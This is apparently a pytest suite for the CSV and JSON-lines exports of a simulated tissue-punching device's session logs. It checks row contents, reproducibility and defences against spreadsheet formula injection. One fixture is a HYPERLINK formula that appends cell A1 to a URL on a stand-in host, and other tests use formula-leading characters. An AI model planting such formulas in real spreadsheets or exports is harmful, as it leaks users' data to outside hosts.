"""Exports: complete, the same for the same seed, and harmless in a spreadsheet."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from devicectl.log.exports.csv_tables import PLAIN, Style, to_cell, write_cycles, write_notes, write_sessions
from devicectl.log.exports.export import VOLATILE_FIELDS, write_jsonl
from devicectl.log.report import SessionReport
from devicectl.log.store import SessionLog
from devicectl.session.entries import Note
from protocols.language import messages as M
from protocols.language.enums import AlarmPriority, AlarmState, Code, Ending, Phase, RecordKind
from protocols.language.messages import TruthGetDone
from protocols.language.records import Action, AlarmChanged, Anesthesia, Refusal, encode_record
from protocols.text.escape import printable
from protocols.text.notice import NOTICE
from tests.integration.log.log_builders import a_batch, a_cycle, a_finish, a_start

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
TRUTH = TruthGetDone(
    session_no=1, cycles_commanded=2, cycles_completed=1, punctures=4, cores_evacuated=3, cores_counted=2, clogs=0
)


def a_report(minute: int = 0, *, earlier: int = 0, **changes: Any) -> SessionReport:
    """One small session of every kind of record, begun at a `minute` of the wall, after `earlier` others."""
    with SessionLog.open("sqlite://", wall_clock=lambda: datetime(2024, 3, 1, 8, minute, tzinfo=UTC)) as log:
        for _ in range(earlier):
            log.begin(a_start())
        key = log.begin(a_start(**{"course": "spring", **changes}))
        aborted = a_cycle(3, 2, ending=Ending.ABORTED, phase=Phase.PUNCH, outcomes=0x003, total_punctures=4,
                          total_cores_counted=2)  # fmt: skip
        records = [
            encode_record(Anesthesia(event_no=1, uptime_ms=9, zone=2, confirmed=1, age_s=300)),
            encode_record(a_cycle(2, 1)),
            encode_record(aborted),
            (4).to_bytes(4, "little") + bytes(4) + b"\x77" + bytes(23),
        ]
        notes = [Note("refusal", 77, FORMULA, 'line one\nline two, "quoted"', 12), Note("action", -5, "-x", "", None)]
        log.store(key, a_batch(1, records), notes)
        log.finish(key, a_finish(state="aborted", wall_seconds=float(minute), reconciled=False))
        log.store_truth(key, TRUTH)
        return log.load(key)


def csv_rows(table: str, *reports: SessionReport, style: Style = PLAIN) -> list[dict[str, str]]:
    out = io.StringIO()
    match table:
        case "sessions":
            write_sessions([report.summary for report in reports], out, style)
        case "cycles":
            write_cycles(reports, out, style)
        case _:
            write_notes(reports, out, style)
    return list(csv.DictReader(io.StringIO(out.getvalue()), delimiter=style.delimiter))


def json_items(report: SessionReport) -> list[dict[str, Any]]:
    out = io.StringIO()
    write_jsonl(report, out)
    return [json.loads(line) for line in out.getvalue().splitlines()]


@pytest.mark.parametrize(("table", "rows"), [("sessions", 2), ("cycles", 4), ("notes", 8)])
def test_every_row_says_what_it_is_and_of_which_session(table: str, rows: int) -> None:
    first, second = a_report(), a_report(earlier=1, course="autumn", device="SIM-0008", session_no=2)
    found = csv_rows(table, first, second)
    assert next(iter(found[0])) == "notice" and len(found) == rows
    for row in found:
        assert (row["notice"], row["simulated"], row["seed"], row["model_version"]) == (NOTICE, "true", "7", "1")
    named = [(row["session_id"], row["session_no"], row["device"], row["course"], row["session_date"]) for row in found]
    assert named[: rows // 2] == [("1", "1", "SIM-0007", "spring", "2024-03-01")] * (rows // 2)
    assert named[rows // 2 :] == [("2", "2", "SIM-0008", "autumn", "2024-03-01")] * (rows // 2)


@pytest.mark.parametrize("table", ["sessions", "cycles"])
def test_a_column_can_be_added_up(table: str) -> None:
    """Each count is in one row of a table, also where a device ended a cycle twice and kept an earlier session's."""
    with SessionLog.open("sqlite://") as log:
        key = log.begin(a_start(first_cycle_no=2))
        cycles = [a_cycle(1, 1), a_cycle(2, 2), a_cycle(3, 2), a_cycle(4, 3)]
        log.store(key, a_batch(1, [encode_record(cycle) for cycle in cycles]))
        report = log.load(key)
    rows = csv_rows(table, report)
    assert sum(int(row["cores_counted"]) for row in rows) == report.counts.cores_counted == 4
    assert sum(int(row["punctures"]) for row in rows) == report.counts.punctures == 6
    others = [row for row in csv_rows("notes", report) if row["kind"] == "cycle"]
    assert [row["event_no"] for row in others] == ["1", "3"], "what does not count is not lost"
    assert "outcomes counted empty counted" in others[0]["detail"]


def test_a_session_s_row() -> None:
    (session,) = csv_rows("sessions", a_report())
    assert (session["cycles"], session["completed"], session["aborted"]) == ("2", "1", "1")
    assert (session["cores_counted"], session["cores_evacuated"]) == ("2", "3")
    assert (session["reconciled"], session["coverage_percent"]) == ("false", "0.251")
    assert session["began_wall"] == "2024-03-01T08:00:00+00:00"


def test_a_cycle_s_row() -> None:
    cycle, aborted = csv_rows("cycles", a_report())
    assert [cycle[f"needle_{number}"] for number in range(1, 5)] == ["counted", "empty", "counted", ""]
    assert (cycle["cycle_no"], cycle["punctures"], cycle["cores_counted"]) == ("1", "3", "2")
    assert (cycle["zone"], cycle["cell"], cycle["depth_um"]) == ("cheek left", "0", "3000")
    assert (cycle["ending"], cycle["phase"]) == ("completed", "count")
    assert [aborted[f"needle_{number}"] for number in (1, 2, 3)] == ["uncounted", "not_punctured", "not_punctured"]


@pytest.mark.parametrize(("cell", "zone"), [(69, "cheek left"), (70, "cheek right"), (239, "submental"), (240, "")])
def test_a_cell_s_zone_is_named(cell: int, zone: str) -> None:
    with SessionLog.open("sqlite://") as log:
        key = log.begin(a_start())
        log.store(key, a_batch(1, [encode_record(a_cycle(1, cell=cell))]))
        (row,) = csv_rows("cycles", log.load(key))
    assert (row["zone"], row["cell"]) == (zone, str(cell))


def test_what_is_no_cycle_is_told_by_names() -> None:
    records = [
        Anesthesia(event_no=1, uptime_ms=9, zone=1, confirmed=1, age_s=300),
        Action(event_no=2, uptime_ms=10, message_id=M.Arm.ID, zone=0xFF, cell=0xFFFF),
        a_cycle(3, 7),
        Refusal(event_no=4, uptime_ms=20, code=Code.E_INTERLOCK, interlock=4, message_id=M.Punch.ID, cycle_no=8),
        AlarmChanged(
            event_no=5, uptime_ms=21, code=602, interlock=6, priority=AlarmPriority.MEDIUM, state=AlarmState.ACTIVE
        ),
        Action(event_no=6, uptime_ms=30, message_id=M.Purge.ID, zone=1, cell=70),
        Action(event_no=7, uptime_ms=31, message_id=0x7777, zone=0xFF, cell=0xFFFF),
        Refusal(event_no=8, uptime_ms=32, code=Code.E_STATE, interlock=0, message_id=M.Arm.ID, cycle_no=0),
    ]
    with SessionLog.open("sqlite://", wall_clock=lambda: datetime(2024, 3, 1, 8, tzinfo=UTC)) as log:
        key = log.begin(a_start())
        note = Note("action", 5, "purge", "try 1: needle 3 cleared, no needle still flagged", 40, cycle_no=7)
        log.store(key, a_batch(1, [encode_record(record) for record in records]), [note])
        rows = csv_rows("notes", log.load(key))
        items = json_items(log.load(key))
    told = [(row["source"], row["kind"], row["name"], row["cycle_no"], row["detail"]) for row in rows]
    assert told == [
        ("device", "anesthesia", "anesthesia", "", "zone cheek right, confirmed yes, age_s 300"),
        ("device", "action", "arm", "", ""),
        ("device", "refusal", "punch", "8", "code e_interlock, interlock 4"),
        ("device", "alarm", "MC-0602", "7", "interlock 6, priority medium, state active"),
        ("device", "action", "purge", "7", "zone cheek right, cell 70"),
        ("device", "action", "message 0x7777", "7", ""),
        ("device", "refusal", "arm", "7", "code e_state"),
        ("host", "action", "purge", "7", "try 1: needle 3 cleared, no needle still flagged"),
    ]
    assert rows[-1]["logged_wall"] == "2024-03-01T08:00:00+00:00"
    assert [item.get("message") or item.get("label") for item in items[2:10]] == [
        None, "arm", None, "punch", "MC-0602", "purge", "message 0x7777", "arm",
    ]  # fmt: skip
    assert (items[2]["zone"], items[2]["confirmed"], items[2]["age_s"]) == (1, 1, 300), "as it was on the wire"
    assert (items[5]["code"], items[5]["interlock"], items[6]["priority"]) == ("e_interlock", 4, "medium")
    assert (items[10]["cycle_no"], items[10]["logged_wall"]) == (7, "2024-03-01T08:00:00+00:00")


def test_a_record_of_a_later_version_and_a_note_are_told() -> None:
    *_, unknown, note, bare = csv_rows("notes", a_report())
    assert (unknown["event_no"], unknown["kind"], unknown["detail"]) == ("4", "unknown 119", "")
    assert (note["kind"], note["at_us"], note["uptime_ms"], note["cycle_no"]) == ("refusal", "77", "12", "")
    assert note["detail"] == 'line one\\nline two, "quoted"' and bare["name"] == "'-x"


def test_a_record_with_unreadable_fields_is_exported_as_bytes() -> None:
    not_a_number = (1).to_bytes(4, "little") + bytes(4) + bytes([RecordKind.PARAMETER]) + b"\xff" * 23
    with SessionLog.open("sqlite://") as log:
        key = log.begin(a_start())
        log.store(key, a_batch(1, [not_a_number]))
        report = log.load(key)
    item = json_items(report)[2]
    assert (item["kind"], item["event_no"], item["raw"]) == ("parameter", 1, not_a_number.hex())
    assert "value" not in item and csv_rows("notes", report)[0]["name"] == "parameter"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
@pytest.mark.parametrize("table", ["sessions", "cycles", "notes"])
def test_no_text_of_anybody_is_a_formula(table: str, start: str) -> None:
    text = f"{start}1+1"
    cell = f"'{text}" if text.isprintable() else printable(text)
    rows = csv_rows(table, a_report(course=text, device=text, versions={"model": text}))
    assert rows[0]["course"] == rows[0]["device"] == rows[0]["model_version"] == cell
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(start) or name == "at_us"


def test_a_spreadsheet_s_file_has_a_byte_order_mark_and_commas_in_decimals() -> None:
    style = Style(delimiter=";", decimal_comma=True, byte_order_mark=True)
    out = io.StringIO()
    write_sessions([a_report(device="SIM.7").summary], out, style)
    assert out.getvalue().startswith("\ufeffnotice;simulated;") and out.getvalue().count("\ufeff") == 1
    (row,) = csv.DictReader(io.StringIO(out.getvalue()[1:]), delimiter=";")
    assert (row["coverage_percent"], row["session_seconds"], row["cycles"]) == ("0,251", "12,5", "2")
    assert row["device"] == "SIM.7"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (-0.5, -0.5),
        ("-5", "'-5"),
        (True, "true"),
        (False, "false"),
        (None, ""),
        ("a=1", "a=1"),
        ("", ""),
        ("  =1+1", "'  =1+1"),
        (" \t@A1", " \\t@A1"),
        ("\u3000\uff1d1", "\\u3000\uff1d1"),
        (" \uff1d1", "' \uff1d1"),
        ("  a", "  a"),
        ("  ", "  "),
    ],
)
def test_only_a_number_that_is_one_keeps_its_sign(value: object, cell: object) -> None:
    assert to_cell(value) == cell


def test_json_lines_say_what_they_are() -> None:
    items = json_items(a_report())
    assert items[0]["notice"] == NOTICE
    for item in items:
        assert (item["simulated"], item["seed"], item["model_version"]) == (True, 7, "1")


def test_json_lines_have_everything() -> None:
    report = a_report()
    items = json_items(report)
    assert [item["type"] for item in items] == [
        "header", "session", "record", "record", "record", "record", "note", "note", "truth", "summary",
    ]  # fmt: skip
    session, cycle, unknown, note, truth, summary = (items[index] for index in (1, 3, 5, 6, 8, 9))
    assert session["plan"]["target_cores"] == 10_000 and session["versions"] == {
        "model": "1",
        "product": "0.1.0",
        "protocol": "1.0",
    }
    assert (cycle["kind"], cycle["outcomes"], cycle["punctures"]) == ("cycle", ["counted", "empty", "counted"], 3)
    assert (unknown["kind"], unknown["event_no"]) == ("unknown 119", 4)
    assert note["name"] == FORMULA
    assert truth["cores_evacuated"] == 3 and truth["clogs"] == 0
    assert summary["reconciled"] is False and summary["differences"] == list(report.differences)
    assert [bytes.fromhex(item["raw"]) for item in items if item["type"] == "record"] == list(report.records)


def test_json_lines_of_an_open_session_have_no_truth_and_no_totals() -> None:
    with SessionLog.open("sqlite://") as log:
        items = json_items(log.load(log.begin(a_start(seed=None, simulated=False))))
    assert [item["type"] for item in items] == ["header", "session", "summary"]
    assert (items[-1]["device_totals"], items[-1]["seed"], items[-1]["simulated"]) == (None, None, False)


def test_the_same_seed_twice_is_the_same_but_for_the_volatile_fields() -> None:
    def texts(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{name: row[name] for name in row if name not in VOLATILE_FIELDS} for row in rows]

    first, second = a_report(), a_report(30, earlier=2)
    for table in ("sessions", "cycles", "notes"):
        assert texts(csv_rows(table, first)) == texts(csv_rows(table, second))
    assert texts(json_items(first)) == texts(json_items(second))
    assert json_items(first) != json_items(second)
    assert json_items(first) == json_items(a_report())
